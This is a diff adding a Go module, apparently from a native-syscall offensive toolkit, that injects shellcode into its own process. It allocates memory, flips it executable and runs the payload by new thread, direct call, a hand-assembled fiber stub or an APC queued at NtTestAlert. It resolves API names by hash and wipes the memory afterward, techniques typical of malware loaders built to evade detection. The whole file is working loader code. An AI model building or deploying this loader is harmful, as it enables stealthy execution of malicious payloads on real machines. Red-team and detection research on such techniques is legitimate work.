@@ -0,0 +1,198 @@
+// Package winapi - Local Execution Module
+// Provides self-injection with selectable execution primitives for testing payloads in-process
+package winapi
+
+import (
+	"encoding/binary"
+	"fmt"
+	"unsafe"
+
+	"github.com/carved4/go-native-syscall/pkg/debug"
+	"github.com/carved4/go-native-syscall/pkg/obf"
+	"github.com/carved4/go-native-syscall/pkg/syscall"
+	"github.com/carved4/go-native-syscall/pkg/syscallresolve"
+)
+
+// LocalPrimitive selects how ExecuteLocal starts the payload
+type LocalPrimitive int
+
+const (
+	// LocalNewThread runs the payload on a new thread created with NtCreateThreadEx
+	LocalNewThread LocalPrimitive = iota
+	// LocalCurrentThread calls the payload directly on the calling goroutine's OS thread.
+	// It runs on the goroutine stack, which may only be a few KB deep, and must return.
+	LocalCurrentThread
+	// LocalFiber runs the payload as a fiber on a new thread
+	// (ConvertThreadToFiber -> CreateFiber -> SwitchToFiber)
+	LocalFiber
+	// LocalAPC starts a suspended thread at ntdll!NtTestAlert, queues the payload to it
+	// as an APC and resumes it, so the payload runs from APC delivery
+	LocalAPC
+)
+
+// ExecuteLocal copies payload into fresh PAGE_READWRITE memory, flips it to PAGE_EXECUTE_READ
+// and runs it with the chosen primitive. Thread-based primitives wait up to 10 seconds for
+// the thread to exit; once it has, the memory is wiped and released.
+func ExecuteLocal(payload []byte, primitive LocalPrimitive) error {
+	if len(payload) == 0 {
+		return fmt.Errorf("empty shellcode :(")
+	}
+
+	payloadSize := alignUp(uintptr(len(payload)), 0x1000)
+	size := payloadSize
+	if primitive == LocalFiber {
+		size += 0x1000 // fiber bootstrap stub lives on the page after the payload
+	}
+
+	var base uintptr
+	regionSize := size
+	status, err := NtAllocateVirtualMemory(CURRENT_PROCESS, &base, 0, &regionSize, MEM_COMMIT|MEM_RESERVE, PAGE_READWRITE)
+	if err != nil || status != STATUS_SUCCESS {
+		return fmt.Errorf("NtAllocateVirtualMemory failed: %v (%s)", err, FormatNTStatus(status))
+	}
+	release := func() {
+		addr := base
+		freeSize := uintptr(0)
+		NtFreeVirtualMemory(CURRENT_PROCESS, &addr, &freeSize, MEM_RELEASE)
+	}
+
+	copy(unsafe.Slice((*byte)(unsafe.Pointer(base)), len(payload)), payload)
+
+	entry := base
+	if primitive == LocalFiber {
+		stub, err := buildFiberStub(base)
+		if err != nil {
+			release()
+			return err
+		}
+		entry = base + payloadSize
+		copy(unsafe.Slice((*byte)(unsafe.Pointer(entry)), len(stub)), stub)
+	}
+
+	if err := protectLocal(base, size, PAGE_EXECUTE_READ); err != nil {
+		release()
+		return err
+	}
+	flushInstructionCache(CURRENT_PROCESS, base, size)
+
+	var thread uintptr
+	switch primitive {
+	case LocalNewThread, LocalFiber:
+		info, err := CreateThread(CURRENT_PROCESS, entry, ThreadOptions{})
+		if err != nil {
+			release()
+			return err
+		}
+		thread = info.Handle
+
+	case LocalCurrentThread:
+		debug.Printfln("WINAPI", "Calling payload at 0x%X on the current thread\n", base)
+		syscall.DirectCall(base, 0)
+		wipeLocal(base, size)
+		release()
+		return nil
+
+	case LocalAPC:
+		testAlert := syscallresolve.GetFunctionAddress(syscallresolve.GetModuleBase(obf.GetHash("ntdll.dll")), obf.GetHash("NtTestAlert"))
+		if testAlert == 0 {
+			release()
+			return fmt.Errorf("failed to resolve ntdll!NtTestAlert")
+		}
+		info, err := CreateThread(CURRENT_PROCESS, testAlert, ThreadOptions{CreateSuspended: true})
+		if err != nil {
+			release()
+			return err
+		}
+		thread = info.Handle
+
+		if err := QueueApc(thread, base, 0, ApcClassic); err != nil {
+			NtTerminateThread(thread, 0)
+			NtClose(thread)
+			release()
+			return err
+		}
+		var suspendCount uintptr
+		NtResumeThread(thread, &suspendCount)
+
+	default:
+		release()
+		return fmt.Errorf("unknown local execution primitive %d", primitive)
+	}
+	defer NtClose(thread)
+
+	timeout := TIMEOUT_10_SECONDS
+	status, err = NtWaitForSingleObject(thread, false, &timeout)
+	if err != nil || status != WAIT_OBJECT_0 {
+		// Still running (or unknown): the memory has to stay in place
+		debug.Printfln("WINAPI", "Payload thread did not exit in time (%s), leaving memory at 0x%X\n", FormatNTStatus(status), base)
+		return nil
+	}
+
+	wipeLocal(base, size)
+	release()
+	return nil
+}
+
+func protectLocal(base uintptr, size uintptr, protect uintptr) error {
+	addr := base
+	protectSize := size
+	var oldProtect uintptr
+	status, err := NtProtectVirtualMemory(CURRENT_PROCESS, &addr, &protectSize, protect, &oldProtect)
+	if err != nil || status != STATUS_SUCCESS {
+		return fmt.Errorf("NtProtectVirtualMemory failed: %v (%s)", err, FormatNTStatus(status))
+	}
+	return nil
+}
+
+// wipeLocal makes the executed region writable again and zeroes it before release
+func wipeLocal(base uintptr, size uintptr) {
+	if protectLocal(base, size, PAGE_READWRITE) == nil {
+		WipeMemory(base, size)
+	}
+}
+
+// buildFiberStub returns x64 code that converts the new thread to a fiber, creates a fiber
+// at payload and switches to it. When the payload fiber returns, the thread exits.
+func buildFiberStub(payload uintptr) ([]byte, error) {
+	kernel32 := syscallresolve.GetModuleBase(obf.GetHash("kernel32.dll"))
+	if kernel32 == 0 {
+		return nil, fmt.Errorf("failed to get kernel32 base address")
+	}
+
+	convert := syscallresolve.GetFunctionAddress(kernel32, obf.GetHash("ConvertThreadToFiber"))
+	create := syscallresolve.GetFunctionAddress(kernel32, obf.GetHash("CreateFiber"))
+	switchTo := syscallresolve.GetFunctionAddress(kernel32, obf.GetHash("SwitchToFiber"))
+	if convert == 0 || create == 0 || switchTo == 0 {
+		return nil, fmt.Errorf("failed to resolve fiber APIs")
+	}
+
+	imm := func(v uintptr) []byte {
+		b := make([]byte, 8)
+		binary.LittleEndian.PutUint64(b, uint64(v))
+		return b
+	}
+
+	var stub []byte
+	stub = append(stub, 0x48, 0x83, 0xEC, 0x28) // sub rsp, 0x28
+	stub = append(stub, 0x31, 0xC9)             // xor ecx, ecx
+	stub = append(stub, 0x48, 0xB8)             // mov rax, ConvertThreadToFiber
+	stub = append(stub, imm(convert)...)
+	stub = append(stub, 0xFF, 0xD0) // call rax
+	stub = append(stub, 0x31, 0xC9) // xor ecx, ecx (dwStackSize = default)
+	stub = append(stub, 0x48, 0xBA) // mov rdx, payload
+	stub = append(stub, imm(payload)...)
+	stub = append(stub, 0x45, 0x31, 0xC0) // xor r8d, r8d
+	stub = append(stub, 0x48, 0xB8)       // mov rax, CreateFiber
+	stub = append(stub, imm(create)...)
+	stub = append(stub, 0xFF, 0xD0)       // call rax
+	stub = append(stub, 0x48, 0x85, 0xC0) // test rax, rax
+	stub = append(stub, 0x74, 0x0F)       // jz done
+	stub = append(stub, 0x48, 0x89, 0xC1) // mov rcx, rax
+	stub = append(stub, 0x48, 0xB8)       // mov rax, SwitchToFiber
+	stub = append(stub, imm(switchTo)...)
+	stub = append(stub, 0xFF, 0xD0)             // call rax
+	stub = append(stub, 0x48, 0x83, 0xC4, 0x28) // done: add rsp, 0x28
+	stub = append(stub, 0xC3)                   // ret
+
+	return stub, nil
+}